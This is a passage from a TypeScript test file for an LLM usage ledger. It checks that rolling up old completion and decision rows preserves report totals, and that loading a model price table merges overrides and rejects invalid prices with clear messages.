    } finally {
      db2.close();
    }
  });

  it('rolls rows past the retention age up by UTC day, and every report keeps its totals', async () => {
    // a decision older than the cut-off whose completion is newer: its route must still group that completion
    now = NOW - 5 * D;
    await ledger.recordDecision({
      decisionId: 'dec-late',
      route: 'local_required',
      strategy: 'privacy_first',
      complexityLevel: 'low',
      complexityScore: 0.1,
      sensitive: true,
      privacyCategories: ['email', 'email'],
      reasons: ['kept local', 'kept local'],
      estimatedInputTokens: 10,
      estimatedOutputTokens: 10,
      latencyMs: 1,
      forced: false,
    });
    now = NOW - H;
    await ledger.recordCompletion(
      base({ promptTokens: 70, completionTokens: 30, latencyMs: 800, decisionId: 'dec-late', tokensPerSecond: 20 }),
    );
    now = NOW;
    const groupBys = ['none', 'model', 'route', 'strategy', 'agent', 'day'] as const;
    const windows = [
      { period: 'all' as const },
      { period: 'month' as const },
      { period: 'week' as const },
      { from: '2026-11-11', to: '2026-11-19' },
      { from: '2026-10-01' },
    ];
    const snapshot = async () => ({
      reports: await Promise.all(windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy })))),
      timeseries: await ledger.timeseries({ period: 'all', bucket: 'day' }),
      decisions: (({ decisionLatencyP50Ms: _, ...rest }) => rest)(await ledger.decisionStats()),
      backends: (await ledger.backendStats()).map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
    });
    const before = await snapshot();
    const rows = () =>
      (db.prepare('SELECT (SELECT count(*) FROM ledger_completions) + (SELECT count(*) FROM router_decisions) AS n').get() as { n: number })
        .n;
    const rowsBefore = rows();

    // keep 2 days: everything before 2026-11-19T00:00Z is rolled up (the script has entries 40, 10, 5 and 3 days old)
    const r = await ledger.rollup({ olderThanDays: 2 });
    expect(r.completions).toBe(4);
    expect(r.decisions).toBe(2); // dec-1 and dec-4; dec-late stays while its completion is raw
    expect(rows()).toBe(rowsBefore - 6);
    expect((db.prepare('SELECT min(ts) AS t FROM ledger_completions').get() as { t: number }).t).toBeGreaterThanOrEqual(
      Date.parse('2026-11-19T00:00:00Z'),
    );
    expect(await snapshot()).toEqual(before);
    // the hand calculation still holds after the rollup
    expectRow((await ledger.report({ period: 'all' })).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));

    // idempotent, and another connection (another process) sees the same figures and finds nothing left to roll up
    expect(await ledger.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
    const db2 = openDatabase(file, ALL);
    try {
      const other = new Ledger({ repo: ledgerRepo(db2), prices: loadPriceTable(), localCost: LOCAL, now: () => now });
      expect(await other.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
      expect(await other.report({ period: 'all', groupBy: 'route' })).toEqual(before.reports[2]);
      // rolling everything up (the late completion too, then its decision) keeps the totals
      now = NOW + 3 * D;
      expect(await other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
      expect((db.prepare('SELECT count(*) AS n FROM ledger_completions').get() as { n: number }).n).toBe(0);
      expect((db.prepare('SELECT count(*) AS n FROM router_decisions').get() as { n: number }).n).toBe(0);
      for (const groupBy of groupBys)
        expect(await ledger.report({ period: 'all', groupBy }), groupBy).toEqual({
          ...before.reports[groupBys.indexOf(groupBy)],
          to: new Date(now).toISOString(),
        });
      expect((({ decisionLatencyP50Ms: _, ...rest }) => rest)(await ledger.decisionStats())).toEqual(before.decisions);
      expect((await ledger.decisionStats()).privacyCatches.byCategory.email).toBe(2); // once per decision, as before
    } finally {
      db2.close();
    }
    await expect(ledger.rollup({ olderThanDays: 0 })).rejects.toThrow(/olderThanDays must be a whole number of days >= 1/);
  });
});

describe('loadPriceTable', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'prices-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('ships a dated table whose cache prices follow the published multipliers', async () => {
    const t = loadPriceTable();
    expect(t.asOf).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(t.source).toMatch(/pricing/);
    // Claude 3 Haiku's published cache prices ($0.30 / $0.03) predate the 1.25x / 0.1x rule
    for (const p of t.prices.filter((x) => x.model !== 'claude-3-haiku')) {
      expect(p.cacheWrite, p.model).toBeCloseTo(p.input * 1.25, 10);
      expect(p.cacheRead, p.model).toBeCloseTo(p.input * 0.1, 10);
    }
    expect(t.prices.find((p) => p.model === 'claude-opus-4-5')).toMatchObject({ input: 5, output: 25 });
    expect(t.prices.find((p) => p.model === 'claude-sonnet-4-5')).toMatchObject({ input: 3, output: 15 });
    expect(t.prices.find((p) => p.model === 'claude-haiku-4-5')).toMatchObject({ input: 1, output: 5 });
    expect(t.prices.find((p) => p.model === 'claude-opus-4-1')).toMatchObject({ input: 15, output: 75 });
  });

  it('merges a price file and config overrides: replace, add, default cache prices, host model', async () => {
    const f = join(dir, 'prices.json');
    writeFileSync(
      f,
      JSON.stringify({
        asOf: '2026-11-01',
        prices: [
          { model: 'claude-sonnet-4-5', input: 2.5, output: 12 },
          { model: 'my-gateway-model', input: 0.5, output: 1.5 },
        ],
      }),
    );
    const t = loadPriceTable(f, {
      hostModel: 'my-gateway-model',
      prices: [{ model: 'claude-haiku-4-5-20251001', input: 0.9, output: 4.5, cacheWrite: 1, cacheRead: 0.05 }],
    });
    expect(t.asOf).toBe('2026-11-01');
    expect(t.hostModel).toBe('my-gateway-model');
    expect(t.prices.find((p) => p.model === 'claude-sonnet-4-5')).toMatchObject({
      input: 2.5,
      output: 12,
      cacheWrite: 3.125,
      cacheRead: 0.25,
    });
    expect(t.prices.find((p) => p.model === 'my-gateway-model')).toMatchObject({
      input: 0.5,
      output: 1.5,
      cacheWrite: 0.625,
      cacheRead: 0.05,
    });
    // an override naming an alias replaces that model's prices and keeps its id
    expect(t.prices.find((p) => p.model === 'claude-haiku-4-5')).toMatchObject({ input: 0.9, output: 4.5, cacheWrite: 1, cacheRead: 0.05 });
    expect(t.prices.filter((p) => p.model.startsWith('claude-haiku-4-5'))).toHaveLength(1);
  });

  it('rejects bad prices with clear messages', async () => {
    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: -1, output: 2 }] })).toThrow(
      /price "input" of model x is negative \(-1\)/,
    );
    expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: 1 } as never] })).toThrow(
      /price "output" of model x must be a number/,
    );
    expect(() => loadPriceTable(undefined, { hostModel: 'gpt-4o' })).toThrow(
      /unknown host model "gpt-4o"; known models: claude-opus-4-5, claude-sonnet-4-5/,
    );
    expect(() => loadPriceTable(join(dir, 'missing.json'))).toThrow(/cannot read price file .*missing.json/);
    const bad = join(dir, 'bad.json');
    writeFileSync(bad, '{ nope');
    expect(() => loadPriceTable(bad)).toThrow(/is not valid JSON/);
    expect(() => loadPriceTable(undefined, { asOf: 'last week' })).toThrow(/"asOf" must be the ISO date/);
    expect(() => loadPriceTable(undefined, { prices: [{ model: 'a', input: 1, output: 1, aliases: ['claude-sonnet-4-5'] }] })).toThrow(
      /listed twice/,
    );
  });
});
